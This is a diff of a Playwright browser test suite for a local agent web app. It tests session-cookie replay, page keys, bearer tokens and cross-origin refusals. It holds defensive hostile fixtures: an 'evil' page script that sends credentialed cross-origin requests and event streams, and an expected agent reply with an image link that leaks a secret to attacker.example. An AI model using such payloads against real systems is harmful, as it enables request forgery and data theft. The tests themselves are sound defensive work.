@@ -9,7 +9,7 @@ import type { Page } from "playwright-core";
 import { writeLongSession } from "../testing/long-session.ts";
 import { screenshotsDir, startWebRoom, type WebRoomFixture } from "../testing/web-room-fixture.ts";
 import { waitUntil } from "../testing/wait-until.ts";
-import { ROOM_FIRST_MESSAGES } from "./web-api.ts";
+import { PAGE_KEY_FRAGMENT, PAGE_KEY_HEADER } from "../serve/page-key-names.ts";
 
 const LONG = "Agent writes a careful answer word by word for the watchers. ".repeat(8).trim();
 const BESIDE = "Python answers beside agent at the very same time in its own lane. ".repeat(8).trim();
@@ -91,6 +91,8 @@ afterAll(async () => {
 });
 
 const lane = (name: string) => page.getByRole("region", { name });
+/** What a program elsewhere (a phone, the CLI) sends: the server's token. */
+const bearer = () => ({ authorization: `Bearer ${new URL(room.loginUrl).searchParams.get("token") ?? ""}` });
 const laneText = async (name: string) => (await lane(name).textContent()) ?? "";
 
 async function send(text: string): Promise<void> {
@@ -154,6 +156,19 @@ describe("org web in Chromium", () => {
     const [cookie] = await page.context().cookies();
     expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
     expect(await page.evaluate("document.cookie")).toBe("");
+    // The page's key: moved from the login's fragment to this origin's storage, gone from the address.
+    expect(new URL(page.url()).hash).toBe("");
+    const key = String(await page.evaluate(`localStorage.getItem(${JSON.stringify(PAGE_KEY_FRAGMENT)})`));
+    expect(key).toMatch(/^[\w-]{43}$/);
+    // The cookie as another port of 127.0.0.1 would receive it, replayed by a program: nothing of the room opens.
+    const replayed = { cookie: `${cookie?.name}=${cookie?.value}` };
+    const sessions = `${room.origin}/v1/sessions`;
+    expect((await fetch(sessions, { headers: replayed })).status).toBe(401);
+    expect((await fetch(`${room.origin}/v1/web/updates`, { headers: { ...replayed, accept: "text/event-stream" } })).status).toBe(401);
+    const posted = await fetch(sessions, { method: "POST", headers: { ...replayed, "content-type": "application/json" }, body: "{}" });
+    expect(posted.status).toBe(401);
+    expect(await posted.text()).toContain("the session cookie alone opens nothing");
+    expect((await fetch(sessions, { headers: { ...replayed, [PAGE_KEY_HEADER]: key } })).status).toBe(200);
     const answer = await page.request.get(`${room.origin}/`);
     const csp = answer.headers()["content-security-policy"] ?? "";
     expect(csp).toContain("script-src 'self'");
@@ -288,10 +303,13 @@ describe("org web in Chromium", () => {
     await send("@agent list the lines again");
     await approve.waitFor({ timeout: 30_000 });
     const session = new URL(page.url()).searchParams.get("session") ?? "";
-    const opened = (await (await page.request.get(`${room.origin}/v1/sessions/${session}`)).json()) as { pendingApprovals: { approvalId: string }[] };
+    const opened = (await (await page.request.get(`${room.origin}/v1/sessions/${session}`, { headers: bearer() })).json()) as {
+      pendingApprovals: { approvalId: string }[];
+    };
     const [question] = opened.pendingApprovals;
     const answered = await page.request.post(`${room.origin}/v1/sessions/${session}/approvals/${question?.approvalId}`, {
       data: { answer: "no", by: "phone" },
+      headers: bearer(),
     });
     expect(answered.status()).toBe(200);
     await lane("agent").getByText("answered no by phone").waitFor();
@@ -571,7 +589,7 @@ describe("org web in Chromium", () => {
     expect(await laneText("agent")).toContain("<script>");
     expect(await laneText("agent")).toContain("[image: exfil] (https://attacker.example/leak?secret=sk-abc)");
     expect(requests.filter((url) => !url.startsWith(room.origin))).toEqual([]);
-    // Reloaded, the page carries the hostile reply in its data block: it is drawn again, and still nothing runs or leaves.
+    // Reloaded, the page reads the hostile reply again: it is drawn again, and still nothing runs or leaves.
     await page.reload();
     await waitUntil("the hostile reply back after the reload", async () => (await laneText("agent")).includes("a fine link"), 30_000);
     await Bun.sleep(300);
@@ -580,36 +598,29 @@ describe("org web in Chromium", () => {
     expect(requests.filter((url) => !url.startsWith(room.origin))).toEqual([]);
   }, 60_000);
 
-  test("the page carries the room's state as GET /v1/sessions/:id gives it, escaped; the room opens from it without asking", async () => {
-    const stateOf = (html: string) => html.match(/<script type="application\/json" id="org-room-state">(.*)<\/script>/s)?.[1];
+  test("the page holds nothing of the room; reloaded, it reads its opening once with its key and opens the stream with its ticket", async () => {
     const session = new URL(page.url()).searchParams.get("session") ?? "";
-    await waitUntil(
-      "the page's state the route's",
-      async () => {
-        const block = stateOf(await (await page.request.get(`${room.origin}/?session=${session}`)).text());
-        const route = await (await page.request.get(`${room.origin}/v1/sessions/${session}?limit=${ROOM_FIRST_MESSAGES}`)).json();
-        return block !== undefined && JSON.stringify(JSON.parse(block)) === JSON.stringify(route);
-      },
-      30_000,
-    );
-    // The hostile reply is in it, and no text in it can end the element: every <, > and & is an escape.
-    const block = stateOf(await (await page.request.get(`${room.origin}/?session=${session}`)).text()) ?? "";
-    expect(block).not.toMatch(/[<>&]/);
-    expect(block).toContain("\\u003cscript\\u003e");
-    expect(JSON.stringify(JSON.parse(block))).toContain("<script>");
-    // A session the server has none of: no state; the page asks the route, which says so.
-    expect(stateOf(await (await page.request.get(`${room.origin}/?session=no-such-session`)).text())).toBeUndefined();
-    // Reloaded, the room follows its stream from the state's last event and never asks for the state itself.
+    const html = await (await page.request.get(`${room.origin}/?session=${session}`)).text();
+    expect(html).not.toContain(session);
+    expect(html).not.toContain("Hostile corpus");
     const before = requests.length;
     await page.reload();
     await page.getByText(/· live ·/).waitFor();
     const asked = requests.slice(before).map((url) => new URL(url));
-    expect(asked.filter((url) => url.pathname === `/v1/sessions/${session}`)).toEqual([]);
-    expect(asked.filter((url) => url.pathname === `/v1/sessions/${session}/events` && url.searchParams.has("after"))).toHaveLength(1);
+    // One read opens the room (its state and a ticket), then its stream; the state is not asked for again.
+    expect(asked.filter((url) => url.pathname === "/v1/web/opening").map((url) => url.searchParams.get("session"))).toEqual([session]);
+    expect(asked.filter((url) => url.pathname === `/v1/sessions/${session}` || url.pathname === "/v1/stream-tickets")).toEqual([]);
+    const streams = asked.filter((url) => url.pathname === `/v1/sessions/${session}/events`);
+    expect(streams).toHaveLength(1);
+    expect(streams[0]?.searchParams.has("after")).toBe(true);
+    expect(streams[0]?.searchParams.get("ticket")).toMatch(/^\d+\.[\w-]{43}$/);
+    // Neither the key nor the ticket is in any address but the stream's (a ticket good for a minute, for streams only).
+    const key = String(await page.evaluate(`localStorage.getItem(${JSON.stringify(PAGE_KEY_FRAGMENT)})`));
+    expect(requests.filter((url) => url.includes(key))).toEqual([]);
   }, 60_000);
 
-  test("a page on another origin gets 403 for a POST and has its event stream refused", async () => {
-    const sessions = (await (await page.request.get(`${room.origin}/v1/sessions`)).json()) as { sessions: { id: string }[] };
+  test("a page on another origin gets 403 for a POST, a read and both event streams (same-site: another port of 127.0.0.1)", async () => {
+    const sessions = (await (await page.request.get(`${room.origin}/v1/sessions`, { headers: bearer() })).json()) as { sessions: { id: string }[] };
     const session = sessions.sessions[0]?.id ?? "";
     // A page elsewhere on loopback (the same site, so the SameSite cookie would go along).
     const evil = Bun.serve({
@@ -621,26 +632,35 @@ describe("org web in Chromium", () => {
             fetch(${JSON.stringify(`${room.origin}/v1/sessions/${session}/messages`)}, { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: '{"text":"from elsewhere"}' });
             fetch(${JSON.stringify(`${room.origin}/v1/changes/undo`)}, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" });
             new EventSource(${JSON.stringify(`${room.origin}/v1/sessions/${session}/events`)}, { withCredentials: true });
+            new EventSource(${JSON.stringify(`${room.origin}/v1/web/updates`)}, { withCredentials: true });
+            fetch(${JSON.stringify(`${room.origin}/v1/sessions/${session}`)}, { mode: "no-cors", credentials: "include" });
+            fetch(${JSON.stringify(`${room.origin}/v1/sessions/${session}/events`)}, { mode: "no-cors", credentials: "include" });
           </script>`,
           { headers: { "content-type": "text/html" } },
         ),
     });
     // The browser hides the answers from the page (and from playwright); the server's own count of them says 403.
     const refused = async () => {
-      const metrics = await (await page.request.get(`${room.origin}/metrics`)).text();
+      const metrics = await (await page.request.get(`${room.origin}/metrics`, { headers: bearer() })).text();
       const count = (route: string, method: string) =>
         Number(
           new RegExp(`org_http_requests_total\\{route="${route.replace(/[/:]/g, (c) => `\\${c}`)}",method="${method}",status="403"\\} (\\d+)`).exec(
             metrics,
           )?.[1] ?? 0,
         );
-      return [count("/v1/sessions/:id/messages", "POST"), count("/v1/changes/undo", "POST"), count("/v1/sessions/:id/events", "GET")];
+      return [
+        count("/v1/sessions/:id/messages", "POST"),
+        count("/v1/changes/undo", "POST"),
+        count("/v1/sessions/:id/events", "GET"),
+        count("/v1/web/updates", "GET"),
+        count("/v1/sessions/:id", "GET"),
+      ];
     };
     try {
       const before = await refused();
       const other = await page.context().newPage();
       await other.goto(`http://127.0.0.1:${evil.port}/`);
-      await waitUntil("the three refusals", async () => (await refused()).every((count, index) => count > (before[index] ?? 0)), 20_000);
+      await waitUntil("the refusals", async () => (await refused()).every((count, index) => count > (before[index] ?? 0)), 20_000);
       await other.close();
     } finally {
       await evil.stop(true);
